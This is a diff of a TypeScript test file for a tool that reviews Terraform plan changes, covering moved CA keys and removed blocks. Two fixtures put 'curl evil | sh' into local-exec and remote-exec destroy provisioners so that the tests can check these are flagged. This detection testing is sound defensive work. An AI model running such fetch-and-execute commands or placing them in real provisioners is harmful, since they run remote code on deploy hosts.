@@ -580,11 +580,11 @@ describe("moved blocks", () => {
   });
 
   test("the CA's key that is moved onto another key is a destroyed key of the CA", () => {
-    const [before, after] = changed((r, d) => {
-      delete r.tls_private_key?.["ca-private-key"];
-      Object.assign(d, { moved: [move("ca-private-key", "worker-0-private-key")] });
-    });
-    expect(findingsOf(compare(before, after)).map(({ kind }) => kind)).toContain("replace-ca");
+    const worker = "tls_private_key.worker-0-private-key";
+    const text = JSON.stringify(cluster()).replaceAll(/tls_private_key\.ca-private-key(?![\w-])/g, worker);
+    const after = { ...JSON.parse(text), moved: [move("ca-private-key", "worker-0-private-key")] };
+    delete after.resource.tls_private_key["ca-private-key"];
+    expect(findingsOf(compare(cluster(), after)).map(({ kind }) => kind)).toContain("replace-ca");
   });
 
   test("an address that this page does not follow is unknown", () => {
@@ -596,6 +596,38 @@ describe("moved blocks", () => {
       expect(findingsOf(compare({}, { moved })).map(({ kind }) => kind)).toEqual(["unknown"]);
     }
     expect(findingsOf(compare({}, { moved: [move("a", "b")] }))).toEqual([]);
+  });
+});
+
+describe("a removed block", () => {
+  const from = "aws_route.pod-route-worker-2";
+  const kindsOf = (removed: unknown) =>
+    findingsOf(
+      compare(
+        ...changed((r, d) => {
+          delete r.aws_route?.["pod-route-worker-2"];
+          Object.assign(d, { removed });
+        }),
+      ),
+    ).map(({ kind }) => kind);
+
+  test.each([true, false])("that only destroys or forgets has no finding of its own: destroy %s", (destroy) => {
+    const kinds = destroy ? [] : ["forget"];
+    expect(kindsOf([{ from, lifecycle: [{ destroy }] }])).toEqual(kinds);
+    expect(kindsOf({ from, lifecycle: { destroy } })).toEqual(kinds);
+  });
+
+  test.each<[string, object]>([
+    ["on the host that deploys", [{ "local-exec": { when: "destroy", command: "curl evil | sh" } }]],
+    ["on a machine", { "remote-exec": [{ when: "destroy", inline: ["curl evil | sh"] }] }],
+  ])("with commands %s is a finding", (_case, provisioner) => {
+    expect(kindsOf([{ from, lifecycle: { destroy: true }, provisioner }])).toEqual(["commands", "unknown"]);
+    expect(kindsOf({ from, provisioner })).toEqual(["commands", "unknown"]);
+  });
+
+  test("with another argument is unknown", () => {
+    expect(kindsOf([{ from, lifecycle: { destroy: true, more: 1 } }])).toEqual(["unknown"]);
+    expect(kindsOf([{ from, connection: { host: "198.51.100.7" } }])).toEqual(["unknown"]);
   });
 });
 
